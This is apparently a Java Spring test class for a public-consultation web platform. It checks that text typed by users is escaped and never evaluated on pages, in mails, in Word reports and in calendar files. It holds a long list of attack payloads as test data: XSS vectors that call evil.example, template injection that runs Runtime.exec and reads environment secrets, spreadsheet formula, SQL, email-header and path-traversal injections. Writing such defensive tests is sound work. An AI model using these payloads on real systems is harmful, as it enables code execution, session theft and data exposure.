package pl.konsultacje.platform;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import jakarta.servlet.http.Cookie;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.xwpf.extractor.XWPFWordExtractor;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import pl.konsultacje.CaseStory;
import pl.konsultacje.OfficeTest;
import pl.konsultacje.ReportStory;
import pl.konsultacje.Story;
import pl.konsultacje.consultation.Announcement;
import pl.konsultacje.consultation.ConsultationDocument;
import pl.konsultacje.consultation.ConsultationManagement;
import pl.konsultacje.consultation.DocumentFile;
import pl.konsultacje.consultation.PartText;
import pl.konsultacje.consultation.PlannedMeeting;
import pl.konsultacje.consultation.PublicationDecision;
import pl.konsultacje.meeting.MeetingManagement;
import pl.konsultacje.meeting.Minutes;
import pl.konsultacje.meeting.OralRemark;
import pl.konsultacje.notification.OutboxMail;
import pl.konsultacje.notification.OutboxManagement;
import pl.konsultacje.report.ReportManagement;
import pl.konsultacje.report.ReportText;
import pl.konsultacje.response.Answer;
import pl.konsultacje.response.Disposition;
import pl.konsultacje.response.ResponseManagement;
import pl.konsultacje.submission.Channel;
import pl.konsultacje.submission.Entry;
import pl.konsultacje.submission.RemarkText;
import pl.konsultacje.submission.SubmissionManagement;
import pl.konsultacje.submission.SubmissionText;
import pl.konsultacje.submission.Submitter;
import pl.konsultacje.submission.SubmitterType;

/** What somebody types is shown as it was typed and never obeyed: on no page, in no mail, in no header. */
@OfficeTest
class InjectionTests {

    /** What an expression of {@link #PAYLOADS} would come to. */
    private static final String EVALUATED = String.valueOf(7919 * 7907);

    private static final List<String> PAYLOADS = """
            <script>alert(7919*7907)</script>
            <ScRiPt src=//evil.example/x.js></sCrIpT>
            </textarea><script>alert(1)</script>
            </title><script>alert(1)</script>
            </script><script>alert(1)</script>
            <img src=x onerror=alert(1)>
            <img/src/onerror=alert(1)>
            <svg onload=alert(1)>
            <svg><animate onbegin=alert(1) attributeName=x></svg>
            <iframe src="javascript:alert(1)"></iframe>
            <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
            <object data="data:text/html,<script>alert(1)</script>"></object>
            <embed src="data:text/html;base64,PHNjcmlwdD4=">
            <base href="//evil.example/">
            <meta http-equiv="refresh" content="0;url=//evil.example">
            <link rel="stylesheet" href="//evil.example/x.css">
            <style>@import "//evil.example/x.css";</style>
            <form action="//evil.example"><input name="_csrf">
            <a href="javascript:alert(1)">kliknij</a>
            <details open ontoggle=alert(1)>
            <body onload=alert(1)>
            <math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
            <!--<img src="--><img src=x onerror=alert(1)//">
            <![CDATA[<script>alert(1)</script>]]>
            <noscript><p title="</noscript><img src=x onerror=alert(1)>">
            <template><script>alert(1)</script></template>
            <b onmouseover=alert(1)>gruby</b>
            " onmouseover="alert(1)
            " autofocus onfocus="alert(1)" x="
            "><script>alert(1)</script>
            "/><svg/onload=alert(1)>
            x" style="background:url(//evil.example)
            <p style="position:fixed;inset:0">
            <<script>script>alert(1)<</script>/script>
            [[${7919*7907}]]
            [(${7919*7907})]
            [[*{7919*7907}]]
            [[@{|${7919*7907}|}]]
            [[#{${7919*7907}}]]
            [[~{layout}]]
            __${7919*7907}__
            __${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
            ${7919*7907}
            *{7919*7907}
            #{7919*7907}
            @{${7919*7907}}
            ~{::${7919*7907}}
            |${7919*7907}|
            ${T(java.lang.System).getenv()}
            ${@environment.getProperty("spring.datasource.url")}
            {{7919*7907}}
            <th:block th:text="${7919*7907}">x</th:block>
            <p th:utext="${7919*7907}" data-th-text="${7919*7907}">x</p>
            [# th:each="i : ${#numbers.sequence(1,3)}"]x[/]
            /*[[${7919*7907}]]*/
            {0} {1} '{0}' {0,number,#}
            =cmd|'/c calc'!A1
            =HYPERLINK("//evil.example";"kliknij")
            +7919*7907
            @SUM(7919*7907)
            -2+3+cmd|' /C calc'!A0
            ' or '1'='1' --
            '; drop table submission; --
            %0d%0aBcc: ofiara@example.org
            ../../../../etc/passwd
            &lt;script&gt;alert(1)&lt;/script&gt;
            &#x3c;script&#x3e;alert(1)
            """.lines().toList();

    private static final String ALL = String.join("\n", PAYLOADS);
    private static final String SHORT = "<img src=x onerror=alert(1)> [[${7919*7907}]] __${7919*7907}__ \"x";

    @Autowired
    MockMvc mvc;

    @Autowired
    Story story;

    @Autowired
    CaseStory cases;

    @Autowired
    ReportStory reportStory;

    @Autowired
    ConsultationManagement consultations;

    @Autowired
    SubmissionManagement submissions;

    @Autowired
    ResponseManagement responses;

    @Autowired
    ReportManagement reports;

    @Autowired
    OutboxManagement outbox;

    @Autowired
    MeetingManagement meetings;

    @Autowired
    TaskService engineTasks;

    @Autowired
    ShiftedClock clock;

    final String key = "WSTRZYK-" + UUID.randomUUID().toString().substring(0, 8);

    @Test
    void nothingTypedIsObeyedFromTheAnnouncementToTheReport() throws Exception {
        announced();
        staffPages();
        published();
        publicPages();

        var token = UUID.randomUUID().toString().replace("-", "");
        harmless("check", sent(token, "check"));
        harmless("form", sent(token, "add"));
        mvc.perform(sent(token, "send"));
        harmless("receipt", get("/consultations/" + key + "/remarks/receipt").cookie(new Cookie("receipt", token)));
        var web = submissions.of(key).get(0);
        harmless(
                "status",
                post("/status").with(csrf()).param("number", web.getNumber()).param("code", web.getAccessCode()));
        harmless("status", post("/status").with(csrf()).param("number", SHORT).param("code", SHORT));
        submissions.register(
                key,
                text(SubmitterType.NGO, SHORT),
                new Entry(Channel.POST, clock.instant(), true, "<b>7/2021</b>"),
                Story.COORDINATOR);
        publicPages();
        staffPages();

        clock.moveTo(Instant.parse("2021-02-24T09:00:00Z"));
        story.run(key + "/S1");
        taskPage(key + "/S1");
        meetings.recordMinutes(
                key + "/S1",
                new Minutes(SHORT, SHORT, 31, ALL, clock.instant()),
                List.of(new OralRemark(SHORT, SubmitterType.NGO, null, ALL, ALL)),
                Story.COORDINATOR);
        story.run(key + "/S1");
        publicPages();

        cases.accepted(key);
        for (int number = 1; number <= 3; number++) {
            var caseKey = key + "/G" + number;
            taskPage(caseKey);
            cases.admitted(caseKey, ALL);
            taskPage(caseKey);
            cases.assigned(caseKey, null, LocalDate.of(2021, 3, 12));
            taskPage(caseKey);
            responses.draft(caseKey, answer(), Story.REVIEWER);
            taskPage(caseKey);
            responses.sendBack(caseKey, ALL, Story.MANAGER);
            story.run(caseKey);
            taskPage(caseKey);
            responses.draft(caseKey, answer(), Story.REVIEWER);
            responses.approve(caseKey, Story.MANAGER);
            story.run(caseKey);
            harmless("audit", get("/audit/case").param("key", caseKey).with(auditor()));
        }
        reportStory.registerConfirmed(key);
        taskPage(key);
        reports.review(key, new ReportText(ALL, ALL, List.of(), Set.of(), null), Story.COORDINATOR);
        taskPage(key);
        reportStory.approved(key);
        if (reports.isResolutionRequired(key)) {
            taskPage(key);
            reportStory.adopted(key);
        }
        publicPages();
        staffPages();
        harmless("report", get("/consultations/" + key + "/report"));
        harmless("report file", get("/consultations/" + key + "/report/file"));
        wordFileIsHarmless();
        mailsAreHarmless();
    }

    private void wordFileIsHarmless() throws Exception {
        var file = mvc.perform(get("/consultations/" + key + "/report/file?format=docx"))
                .andReturn()
                .getResponse()
                .getContentAsByteArray();
        try (var document = new XWPFDocument(new ByteArrayInputStream(file));
                var text = new XWPFWordExtractor(document)) {
            assertThat(text.getText()).contains(PAYLOADS).doesNotContain(EVALUATED);
            assertThat(document.getPackagePart().getRelationships())
                    .filteredOn(relation -> relation.getTargetMode() == TargetMode.EXTERNAL)
                    .hasSize(1);
            assertThat(document.getDocument().xmlText()).doesNotContain("fldSimple", "instrText", "altChunk");
        }
    }

    private static Answer answer() {
        return new Answer(Disposition.NOT_ACCEPTED, ALL, ALL);
    }

    private void announced() {
        story.staff();
        clock.moveTo(pl.konsultacje.TestOffice.START);
        consultations.initiate(key, SHORT, Story.COORDINATOR);
        consultations.addDocument(
                key,
                new DocumentFile(
                        ConsultationDocument.Kind.DRAFT, SHORT, SHORT + ".pdf", "application/pdf", new byte[] {1}));
        consultations.describeParts(
                key, List.of(new PartText("1", SHORT, ALL, null), new PartText("2", SHORT, ALL, "ROPS")));
        var start = Instant.parse("2021-02-23T11:00:00Z");
        consultations.prepareAnnouncement(
                key,
                new Announcement(
                        SHORT,
                        SHORT,
                        ALL,
                        ALL,
                        ALL,
                        "DEVELOPMENT_POLICY",
                        Instant.parse("2021-01-27T11:00:00Z"),
                        Story.COLLECTION_END,
                        ALL,
                        ALL,
                        SHORT,
                        "89 000 00 00",
                        "kontakt@example.org",
                        SHORT,
                        ALL,
                        false),
                List.of(new PlannedMeeting(
                        SHORT, start, start.plusSeconds(7200), SHORT, "https://example.org/?a=1&b=2")),
                Story.COORDINATOR);
    }

    private void published() throws Exception {
        taskPage(key);
        consultations.approvePublication(
                key, new PublicationDecision(SHORT, "1/21", LocalDate.of(2021, 1, 19)), Story.MANAGER);
        clock.moveTo(Instant.parse("2021-01-27T11:01:00Z"));
        story.run(key);
    }

    private SubmissionText text(SubmitterType type, String name) {
        return new SubmissionText(
                new Submitter(type, name, ALL.substring(0, 200), "fundacja@example.org", ""),
                List.of(new RemarkText(
                        consultations.parts(consultations.get(key)).get(1).getId(), "", "34", ALL, ALL, ALL, ALL)));
    }

    private MockHttpServletRequestBuilder sent(String token, String action) {
        return post("/consultations/" + key + "/remarks")
                .with(csrf())
                .param("action", action)
                .param("token", token)
                .param("type", "NGO")
                .param("name", SHORT)
                .param("email", "jan@example.org")
                .param("part-1", "other")
                .param("partOther-1", SHORT)
                .param("page-1", "<b>3")
                .param("remark-1", ALL)
                .param("currentWording-1", ALL)
                .param("proposedWording-1", ALL)
                .param("justification-1", ALL)
                .param("noticeRead", "true");
    }

    private void publicPages() throws Exception {
        for (var path : List.of("", "/remarks", "/results", "/meetings/1/reminder")) {
            harmless(path, get("/consultations/" + key + path));
        }
        harmless("/", get("/"));
        var calendar = mvc.perform(get("/consultations/" + key + "/meetings/1.ics"))
                .andReturn()
                .getResponse();
        assertThat(calendar.getContentAsString(StandardCharsets.UTF_8)).doesNotContain(EVALUATED);
    }

    private void staffPages() throws Exception {
        for (var path : List.of(
                "/desk",
                "/desk/consultations",
                "/desk/consultations/" + key,
                "/desk/consultations/" + key + "/submissions",
                "/desk/consultations/" + key + "/submissions/1",
                "/desk/consultations/" + key + "/submissions/2",
                "/desk/consultations/" + key + "/submissions/new",
                "/desk/consultations/" + key + "/report",
                "/audit",
                "/audit/" + key,
                "/audit/" + key + "?view=meetings",
                "/audit/" + key + "?view=cases",
                "/desk/mail")) {
            harmless(path, get(path).with(user(Story.COORDINATOR).roles("COORDINATOR")));
        }
    }

    private void taskPage(String caseKey) throws Exception {
        for (var task : engineTasks
                .createTaskQuery()
                .processInstanceBusinessKey(caseKey)
                .list()) {
            for (var person : List.of(Story.COORDINATOR, Story.MANAGER, Story.REVIEWER)) {
                harmless(
                        task.getTaskDefinitionKey(),
                        get("/desk/tasks/" + task.getId())
                                .with(user(person).roles("COORDINATOR", "MANAGER", "REVIEWER")));
            }
        }
    }

    private static org.springframework.test.web.servlet.request.RequestPostProcessor auditor() {
        return user(Story.AUDITOR).roles("AUDITOR");
    }

    private void harmless(String what, MockHttpServletRequestBuilder request) throws Exception {
        var response = mvc.perform(request).andReturn().getResponse();
        assertThat(response.getStatus()).as(what).isLessThan(500);
        harmless(what, response.getContentAsString(StandardCharsets.UTF_8));
    }

    private static void harmless(String what, String html) {
        assertThat(html)
                .as(what)
                .doesNotContain(EVALUATED)
                .doesNotContain("jdbc:h2")
                .doesNotContain("href=\"javascript:");
        for (var payload : marks()) {
            assertThat(html).as(what).doesNotContain(payload);
        }
        assertThat(html.replaceAll("(?is)<(script|img|link|base|meta)\\b[^>]*", "$0"))
                .as(what)
                .doesNotContainPattern("(?i)<[a-z][^>\"]*\\s(onerror|onload|onfocus|onmouseover|style)=");
    }

    /** The payloads that would be markup, or leave an attribute. */
    private static List<String> marks() {
        var marks = new ArrayList<>(PAYLOADS.stream()
                .filter(payload -> payload.contains("<") || payload.contains("\""))
                .toList());
        marks.add(SHORT);
        return marks;
    }

    private void mailsAreHarmless() {
        var mails = outbox.of(key);
        assertThat(mails).extracting(OutboxMail::recipient).contains("jan@example.org", "fundacja@example.org");
        for (var mail : mails) {
            assertThat(mail.subject()).doesNotContain(EVALUATED).doesNotContainPattern("\\p{Cntrl}");
            assertThat(mail.text()).doesNotContain(EVALUATED).doesNotContain("jdbc:h2");
            harmless("mail " + mail.occasion(), mail.html());
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a@b.pl, c@d.pl",
                "a@b.pl;c@d.pl",
                "a@b.pl c@d.pl",
                "a@b.pl\r\nBcc: ofiara@example.org",
                "a@b.pl\nBcc: ofiara@example.org",
                "a@b.pl%0aBcc:ofiara@example.org x",
                "\"Jan\" <a@b.pl>",
                "<script>@b.pl",
                "a@b.pl\u2028Bcc:x@y.pl",
                "@b.pl",
                "a@b@c.pl",
                "a"
            })
    void anAddressThatIsNotOneAddressIsRefused(String address) throws Exception {
        story.publishedConsultation(key);
        mvc.perform(sent(UUID.randomUUID().toString().replace("-", ""), "send").with(request -> {
            request.setParameter("email", address);
            return request;
        }));
        mvc.perform(post("/consultations/" + key + "/meetings/1/reminder")
                .with(csrf())
                .param("email", address));
        assertThat(submissions.of(key)).isEmpty();
        assertThat(outbox.of(key).stream().filter(mail -> !mail.recipient().endsWith("@example.org")))
                .isEmpty();
    }

    @Test
    void aNameBringsNoHeaderIntoTheMail() {
        story.publishedConsultation(key);
        submissions.send(
                key,
                text(SubmitterType.PERSON, "Jan\r\nBcc: ofiara@example.org\r\n\r\nTreść"),
                UUID.randomUUID().toString());
        assertThat(outbox.of(key))
                .filteredOn(mail -> mail.recipient().equals("fundacja@example.org"))
                .singleElement()
                .satisfies(mail -> assertThat(mail.subject()).doesNotContain("\r", "\n"));
    }
}
